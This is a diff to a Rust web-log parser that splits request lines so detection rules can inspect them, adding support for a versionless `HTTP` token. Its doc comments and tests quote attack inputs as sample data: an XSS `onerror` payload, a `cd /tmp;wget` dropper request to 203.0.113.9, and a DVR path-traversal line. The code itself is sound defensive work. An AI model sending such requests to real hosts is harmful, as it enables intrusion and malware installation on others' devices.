@@ -28,7 +28,7 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// Splits a request line `METHOD TARGET PROTOCOL`. Anything else (an empty line, `-`, one
 /// word, TLS or other binary bytes, Envoy's `- - -` for TCP) is a real request the server
 /// answered but has none of them. A complete line with an odd method (`PATCHp`) or an odd
-/// version (`HTTP/1.2`) keeps them as logged; rules decide what is odd. A target with raw
+/// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target with raw
 /// spaces (Apache and NGINX log the line as received; scanners send unencoded payloads such as
 /// `/x"><img src=N onerror=alert(1)>`) is everything between the method and the protocol, so
 /// the rules still see the payload. Without a protocol, a target with raw spaces is what
@@ -48,6 +48,8 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// assert_eq!(parts("GET /shell?cd+/tmp;wget+ 203.0.113.9/arm"), (Some("GET"), Some("/shell?cd+/tmp;wget+ 203.0.113.9/arm"), None));
 /// assert_eq!(parts("GET a b"), (None, None, None));
 /// assert_eq!(parts("GET  HTTP/1.1"), (None, None, None));
+/// // A DVR exploit's hand-made line: a relative traversal, a protocol without its version.
+/// assert_eq!(parts("GET ../../mnt/custom/ProductDefinition HTTP"), (Some("GET"), Some("../../mnt/custom/ProductDefinition"), Some("HTTP")));
 /// let unparsed = |l| request_line(l).unparsed;
 /// assert_eq!(unparsed("\\x16\\x03\\x01\\x00"), Some("\\x16\\x03\\x01\\x00"));
 /// assert_eq!(unparsed("SSH-2.0-Go"), Some("SSH-2.0-Go"));
@@ -66,7 +68,9 @@ pub fn request_line(line: &str) -> RequestLine<'_> {
     else {
         return no_request();
     };
-    if !is_protocol(p) {
+    // A bare `HTTP` (no version) closes a hand-made line as a protocol would: kept as logged,
+    // for the rules to find the version that does not exist.
+    if !is_protocol(p) && p != "HTTP" {
         // No protocol: the raw spaces are the target's (a payload sent unencoded).
         let after_method = line.get(m.len() + 1..).unwrap_or("");
         if is_method(m) && after_method.starts_with('/') && after_method.contains(' ') {
